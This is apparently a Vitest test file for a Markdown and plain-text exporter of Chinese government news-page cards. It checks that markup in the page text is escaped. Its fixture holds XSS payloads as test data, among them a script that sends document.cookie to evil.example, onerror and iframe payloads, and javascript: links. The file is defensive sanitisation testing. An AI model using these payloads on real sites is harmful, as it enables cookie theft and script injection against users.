import { decodeHTML } from 'entities';
import MarkdownIt from 'markdown-it';
import { describe, expect, it } from 'vitest';
import { type Card, emptyCard } from '../../lib/card';
import { escapeMarkdown, toMarkdown, toText, webAddress } from '../../lib/export/index';

/** The most permissive common reader: raw HTML on, bare addresses linked (as many note apps do). */
const reader = new MarkdownIt({ html: true, linkify: true });

/** What a reader sees of rendered HTML: its text, tags removed and references decoded. */
const shown = (html: string) =>
  decodeHTML(html.replace(/<[^>]*>/g, ''))
    .replace(/\s+/g, ' ')
    .trim();

/** An article card written for this test whose page text carries markup of every kind. */
function hostileCard(): Card {
  const card = emptyCard('https://www.example.gov.cn/news/2024/0520.html', '');
  const paragraphs = [
    '会议强调<img src=x onerror="alert(1)">要抓好落实。',
    '<script>fetch("https://evil.example/?c="+document.cookie)</script>详见[通知](javascript:alert(1))。',
    '1. 第一条 *要* __加强__ `领导` &lt;b&gt; ~~删~~ | 表 | $x$',
    '# 不是标题',
    '- 不是列表',
    '---',
    '    缩进四格也不是代码',
  ];
  Object.assign(card, {
    isArticle: true,
    reason: null,
    language: 'zh-Hans',
    title: '关于贯彻<中华人民共和国监察法>的通知 <b>加粗</b>',
    date: '2024-05-20',
    source: '<a href="javascript:alert(1)">区政府</a>',
    body: { paragraphs, text: paragraphs.join('\n') },
    officials: [{ name: '王*某*', titles: ['<i>副区长</i>'], mentions: 2 }],
    places: [{ name: '[滨河街道](javascript:void 0)', kind: 'subdistrict', mentions: 1 }],
    policyPhrases: [{ text: '![图](https://evil.example/x.png)', mentions: 1 }],
    keySentences: ['会议要求\n# 换行后的标题'],
    quotes: [{ speaker: '王某', text: '<iframe src="javascript:alert(1)"></iframe>' }],
  } satisfies Partial<Card>);
  return card;
}

describe('Markdown export escapes page text', () => {
  it('renders no element, link or image the page wrote, in a reader that allows HTML', () => {
    const html = reader.render(toMarkdown(hostileCard(), { body: true }));
    for (const tag of [
      'img',
      'script',
      'iframe',
      'b',
      'i',
      'em',
      'strong',
      'code',
      's',
      'del',
      'table',
      'hr',
      'pre',
    ])
      expect(html, tag).not.toMatch(new RegExp(`<${tag}[\\s>]`, 'i'));
    expect(html).not.toMatch(/href="(javascript|data):/i);
    // Links: the article's own address first; any other is a bare http(s) address the reader linked.
    const links = [...html.matchAll(/<a href="([^"]*)"/g)].map((m) => m[1]);
    expect(links[0]).toBe('https://www.example.gov.cn/news/2024/0520.html');
    for (const href of links) expect(href).toMatch(/^https?:\/\//);
    const strict = new MarkdownIt({ html: true }).render(toMarkdown(hostileCard(), { body: true }));
    expect([...strict.matchAll(/<a href="([^"]*)"/g)].map((m) => m[1])).toEqual([links[0]]);
    expect([...html.matchAll(/<h1>/g)]).toHaveLength(1);
    expect(html.match(/<li>/g)).toHaveLength(5);
  });

  it('shows every character of the page text as it was', () => {
    const card = hostileCard();
    const html = reader.render(toMarkdown(card, { body: true }));
    const text = shown(html);
    expect(text).toContain('关于贯彻<中华人民共和国监察法>的通知 <b>加粗</b>');
    expect(text).toContain(
      '<script>fetch("https://evil.example/?c="+document.cookie)</script>详见[通知](javascript:alert(1))。',
    );
    expect(text).toContain('1. 第一条 *要* __加强__ `领导` &lt;b&gt; ~~删~~ | 表 | $x$');
    expect(text).toContain('王*某*（<i>副区长</i>）×2');
    expect(text).toContain('会议要求 # 换行后的标题');
    for (const p of card.body.paragraphs) expect(text).toContain(p.trim());
  });

  it('escapes one line so that it shows itself, for each mark alone', () => {
    for (const line of [
      '<b>x</b>',
      '&amp;',
      '*a*',
      '_a_',
      '`a`',
      '[a](b)',
      '# a',
      '- a',
      '+ a',
      '1) a',
      '12. a',
      '~~a~~',
      '| a |',
      '\\*',
    ])
      expect(shown(reader.renderInline(escapeMarkdown(line))), line).toBe(line);
    expect(shown(reader.render(`${escapeMarkdown('===')}`))).toBe('===');
  });

  it('links only http(s) addresses, in their serialised form', () => {
    expect(webAddress('javascript:alert(1)')).toBeNull();
    expect(webAddress('data:text/html,<script>alert(1)</script>')).toBeNull();
    expect(webAddress('JAVASCRIPT:alert(1)')).toBeNull();
    expect(webAddress('not an address')).toBeNull();
    expect(webAddress('https://www.example.gov.cn/a b<c>.html')).toBe(
      'https://www.example.gov.cn/a%20b%3Cc%3E.html',
    );
    const card = hostileCard();
    card.url = 'javascript:alert(document.domain)';
    expect(toMarkdown(card)).not.toContain('javascript:alert(document');
    expect(toText(card)).not.toContain('javascript:alert(document');
    const page = emptyCard('data:text/html,<script>alert(1)</script>', '这是列表页，不是文章');
    expect(reader.render(toMarkdown(page))).not.toMatch(/<script|href="data:/);
  });
});

describe('plain text export keeps every character', () => {
  it('keeps angle brackets, markup-like text and the body as written', () => {
    const card = hostileCard();
    const text = toText(card, { body: true });
    expect(text).toContain('关于贯彻<中华人民共和国监察法>的通知 <b>加粗</b>\n');
    expect(text).toContain('来源：<a href="javascript:alert(1)">区政府</a>');
    expect(text).toContain('  王*某*（<i>副区长</i>）×2\n');
    for (const p of card.body.paragraphs) expect(text).toContain(`\n${p}\n`);
    expect(text).toContain('\nhttps://www.example.gov.cn/news/2024/0520.html\n');
    expect(text).not.toMatch(/\\[<*#[_`]/);
  });

  it('keeps ‹ › 《 》 and < > in a title, the shapes 通知 titles are printed in', () => {
    const card = hostileCard();
    for (const title of [
      '关于贯彻‹中华人民共和国监察法>的通知',
      '关于印发<区级财政专项资金管理办法>的通知',
      '关于《条例》的说明',
    ])
      expect(toText({ ...card, title }).split('\n')[0]).toBe(title);
  });
});
